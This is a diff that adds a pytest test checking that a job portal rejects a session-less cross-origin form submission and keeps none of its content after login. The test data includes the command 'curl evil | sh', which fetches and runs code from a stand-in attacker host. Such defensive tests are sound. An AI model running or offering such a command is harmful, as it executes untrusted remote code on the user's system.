@@ -162,6 +162,17 @@ def test_what_was_written_comes_back_after_the_login(portal: Any, browser: Brows
     assert browser.fill_in("/jobs", form).url.startswith(f"{portal.root}/jobs/")
 
 
+@pytest.mark.parametrize("origin", ["https://evil.example", "null", ""])
+def test_the_login_keeps_nothing_of_another_site(origin: str, portal: Any) -> None:
+    """A script that another site sends without a session is not in the form after the login."""
+    answer = Browser(portal.root).post(
+        f"{portal.root}/jobs", data={"script": "curl evil | sh"}, headers={"Origin": origin}
+    )
+    assert answer.status_code == 401
+    assert "evil" not in answer.text
+    assert "is kept" not in text_of(answer)
+
+
 def _textareas(page: Any) -> dict[str, str]:
     found = re.findall(r'<textarea[^>]*name="([^"]*)"[^>]*>\n(.*?)</textarea>', page.text, re.S)
     return {name: html.unescape(value) for name, value in found}
